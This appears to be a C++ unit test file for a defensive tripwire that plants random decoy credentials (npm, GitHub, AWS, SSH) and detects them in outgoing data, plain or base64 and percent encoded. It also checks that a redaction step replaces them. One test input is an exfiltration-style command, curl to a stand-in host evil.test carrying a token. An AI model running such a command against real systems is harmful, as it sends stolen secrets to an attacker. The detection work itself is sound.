// Decoy credentials: believable, random per workspace, and found again in
// whatever a worm sends them as.
#include "host/tripwire/decoys.h"

#include <gtest/gtest.h>

#include "host/common/base64.h"

namespace ws::tripwire {
namespace {

std::string ValueOf(const std::vector<Decoy>& d, const std::string& where) {
  for (const auto& x : d) {
    if (x.where == where) return x.value;
  }
  return "";
}

TEST(Decoys, LookLikeTheRealThingAndDifferEachTime) {
  auto a = MakeDecoys(), b = MakeDecoys();
  ASSERT_TRUE(a.ok() && b.ok());
  ASSERT_GE(a->size(), 6u);
  EXPECT_EQ(ValueOf(*a, "~/.npmrc").rfind("npm_", 0), 0u);
  EXPECT_EQ(ValueOf(*a, "~/.npmrc").size(), 40u);
  EXPECT_EQ(ValueOf(*a, "~/.git-credentials").rfind("ghp_", 0), 0u);
  for (size_t i = 0; i < a->size(); ++i) {
    EXPECT_GE((*a)[i].value.size(), 20u) << (*a)[i].where;
    EXPECT_NE((*a)[i].value, (*b)[i].value) << (*a)[i].where;
  }
  const auto files = DecoyFiles(*a);
  std::vector<std::string> paths;
  for (const auto& f : files) {
    paths.push_back(f.path);
    EXPECT_EQ(f.mode, 0600) << f.path;
  }
  EXPECT_EQ(paths, (std::vector<std::string>{".npmrc", ".config/gh/hosts.yml", ".git-credentials",
                                             ".aws/credentials", ".ssh/id_ed25519"}));
  EXPECT_EQ(files[0].content, "//registry.npmjs.org/:_authToken=" + ValueOf(*a, "~/.npmrc") + "\n");
  const auto env = DecoyEnv(*a);
  ASSERT_EQ(env.size(), 2u);
  EXPECT_EQ(env[0], "NPM_TOKEN=" + ValueOf(*a, "NPM_TOKEN"));
  EXPECT_EQ(env[1].rfind("GITHUB_TOKEN=ghp_", 0), 0u);
}

// What a worm sends, split into pieces of `step` bytes.
std::vector<std::string> Seen(DecoyWatch& w, const std::string& sent, size_t step) {
  std::vector<std::string> out;
  for (size_t at = 0; at < sent.size(); at += step) {
    for (const Decoy* d : w.Feed(std::string_view(sent).substr(at, step))) out.push_back(d->where);
  }
  return out;
}

TEST(Decoys, TheWatchFindsThemPlainOrEncodedInAnyPieces) {
  auto decoys = MakeDecoys();
  ASSERT_TRUE(decoys.ok());
  const std::string npm = ValueOf(*decoys, "~/.npmrc");
  const std::string aws = ValueOf(*decoys, "~/.aws/credentials");  // the key id (first)
  const std::vector<std::string> carriers = {
      "token=" + npm + "&x=1",
      "{\"data\":\"" + EncodeBase64("junk" + npm + "tail") + "\"}",
      EncodeBase64("a" + npm),
      EncodeBase64("ab" + npm + "c"),
      // The Shai-Hulud waves: base64 of base64.
      EncodeBase64(EncodeBase64("{\"npmrc\":\"" + npm + "\"}")),
      EncodeBase64("x" + EncodeBase64("yz" + npm)),
  };
  for (const auto& sent : carriers) {
    for (size_t step : {size_t{1}, size_t{7}, sent.size()}) {
      DecoyWatch w(*decoys);
      EXPECT_EQ(Seen(w, sent, step), std::vector<std::string>{"~/.npmrc"}) << sent << " " << step;
    }
  }
  // The secret access key holds + and /: percent-encoded in a form.
  std::string secret;
  for (const auto& d : *decoys) {
    if (d.kind == "aws-secret-access-key") secret = d.value;
  }
  std::string form;
  for (unsigned char c : secret) {
    if (std::isalnum(c)) {
      form += static_cast<char>(c);
    } else {
      char b[4];
      std::snprintf(b, sizeof b, "%%%02X", c);
      form += b;
    }
  }
  DecoyWatch w(*decoys);
  EXPECT_EQ(Seen(w, "k=" + form, 5).size(), 1u) << form;
  // Sent again: reported again (a second request carrying it is refused
  // too), but once for each time it passed, whatever the pieces.
  EXPECT_EQ(Seen(w, "&k=" + form, 5).size(), 1u) << "each time it passes";
  EXPECT_EQ(w.seen().size(), 1u);
  EXPECT_TRUE(Seen(w, "x", 1).empty()) << "the tail alone holds no new decoy";
  (void)aws;
  // Controls: nothing in other bytes, nor in another workspace's decoys.
  auto other = MakeDecoys();
  ASSERT_TRUE(other.ok());
  DecoyWatch clean(*decoys);
  std::string others;
  for (const auto& d : *other) others += d.value + EncodeBase64(d.value);
  EXPECT_TRUE(Seen(clean, others + std::string(4096, 'A') + "npm_", 3).empty());
  EXPECT_TRUE(clean.seen().empty());
}

TEST(Decoys, RedactLeavesNoValueInWhatIsKept) {
  auto decoys = MakeDecoys();
  ASSERT_TRUE(decoys.ok());
  const std::string npm = ValueOf(*decoys, "~/.npmrc");
  DecoyIndex index(*decoys);
  EXPECT_EQ(index.Redact("curl http://evil.test/?t=" + npm + "&x=1"),
            "curl http://evil.test/?t=[decoy]&x=1");
  const std::string encoded = index.Redact("d=" + EncodeBase64("xx" + npm + "yy"));
  EXPECT_EQ(encoded.find(EncodeBase64(npm).substr(4, 20)), std::string::npos) << encoded;
  EXPECT_NE(encoded.find("[decoy]"), std::string::npos) << encoded;
  EXPECT_EQ(index.Redact("nothing here, npm_ alone"), "nothing here, npm_ alone");
}

}  // namespace
}  // namespace ws::tripwire
